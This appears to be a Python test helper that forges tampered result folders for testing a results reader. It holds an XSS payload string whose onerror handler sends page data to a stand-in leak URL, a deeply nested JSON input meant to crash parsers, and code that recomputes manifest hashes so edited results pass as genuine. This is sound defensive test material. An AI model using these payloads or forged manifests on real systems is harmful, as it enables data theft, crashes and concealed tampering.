"""Result folders as an attacker leaves them: a real run copied, its results_full edited
and its manifest recomputed (so that the results still read as committed)."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.runner.helpers import SYMBOL

DEEP = 100_000  # nesting that no recursive JSON reader survives
# What a hostile string value tries: leave a <script> element, an inline handler that
# would send the page's data away, an attribute breakout and a JavaScript string breakout.
XSS = (
    "</script><script>window.pwned=1;alert('script')</script>"
    "<img src=x onerror=\"window.pwned=2;location='http://127.0.0.1:9/leak?'+document.title\">"
    "\"><svg onload=\"window.pwned=3;alert('svg')\">'-alert('quote')-'"
)


def recommit(out: Path) -> Path:
    """Make ``out``'s manifest list its result files as they are now (size, sha256)."""
    manifest = out / f"results_manifest_{SYMBOL}.json"
    document = json.loads(manifest.read_text())
    for entry in document["files"].values():
        data = (out / entry["name"]).read_bytes()
        entry.update(size=len(data), sha256=hashlib.sha256(data).hexdigest())
    manifest.write_text(json.dumps(document))
    return out


def tampered(
    run: Path,
    target: Path,
    edit: Callable[[dict[str, Any]], Any] | None = None,
    text: Callable[[str], str] | None = None,
) -> Path:
    """A copy of ``run`` in ``target`` whose results_full had ``edit`` applied to it
    (the parsed document) and then ``text`` (to its JSON text), committed again."""
    shutil.copytree(run, target, symlinks=True)
    full = target / f"results_full_{SYMBOL}.json"
    document = json.loads(full.read_text())
    if edit is not None:
        edit(document)
    raw = json.dumps(document)
    full.write_text(text(raw) if text is not None else raw)
    return recommit(target)


def deeply_nested(run: Path, target: Path, depth: int = DEEP) -> Path:
    """``run`` whose metadata holds a list nested ``depth`` deep."""
    nested = "[" * depth + "]" * depth
    return tampered(
        run,
        target,
        lambda d: d["metadata"].update(extra="NESTED"),
        lambda raw: raw.replace('"NESTED"', nested),
    )
